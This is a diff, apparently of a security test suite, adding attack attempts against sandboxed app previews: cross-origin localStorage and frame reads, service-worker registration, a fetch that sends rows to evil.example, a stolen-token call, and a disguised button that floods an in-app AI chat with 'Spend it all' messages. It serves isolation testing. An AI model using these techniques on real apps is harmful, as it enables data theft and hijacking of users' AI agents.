@@ -26,7 +26,9 @@ export default function Published() { return <Attempts attacks={publishedAttacks
 const ask = () => { for (let i = 0; i < 50; i++) window.sayso.sendChatMessage('Spend it all ' + i); };
 export default function Ask() {
   useEffect(() => { ask(); setTimeout(() => { ask(); setTimeout(() => console.log('asked'), 500); }, 500); }, []);
-  return <button id="ask" onClick={ask}>Nice button</button>;
+  // A browser believes in a click for some seconds: long enough for an answer, and the next question.
+  const click = () => { ask(); for (const ms of [1500, 3000, 4000]) setTimeout(ask, ms); setTimeout(() => console.log('asked again'), 4500); };
+  return <button id="ask" onClick={click}>Nice button</button>;
 }`,
       Forever: `import { useEffect } from 'react';
 export default function Forever() { useEffect(() => { setTimeout(() => { console.log('for ever'); for (;;) {} }, 50); }, []); return <p id="forever">for ever</p>; }`,
@@ -34,6 +36,7 @@ export default function Forever() { useEffect(() => { setTimeout(() => { console
     components: { Attempts: ATTEMPTS },
     services: {
       preview: `import { InvokeLLM } from '@/integrations/Core';\nimport { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PREVIEW}`,
+      bare: 'export const address = import.meta.url;',
       published: `import { InvokeLLM } from '@/integrations/Core';\nimport { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PUBLISHED}`,
     },
     entities: { Note: NOTE },
@@ -174,7 +177,11 @@ export const publishedAttacks = {
   openOther: async () => (await opened(otherUrl)).localStorage.length,
   frameBuilder: async () => (await frameOf(builderUrl + '/home')).contentDocument.title,
   frameOther: async () => (await frameOf(otherUrl)).contentWindow.localStorage.length,
-  serviceWorker: () => navigator.serviceWorker.register(document.querySelector('script[type=module]').src, { scope: '/m/' }).then(() => 'registered'),
+  serviceWorker: async () => {
+    // A module that would run as one: it imports nothing and asks for no window.
+    const { address } = await import('@/services/bare');
+    return navigator.serviceWorker.register(address, { type: 'module', scope: '/m/' }).then(() => 'registered');
+  },
   elsewhere: () => fetch('https://evil.example/?rows').then(() => 'sent'),
   otherApp: async () => {
     const authorization = await stolenToken();
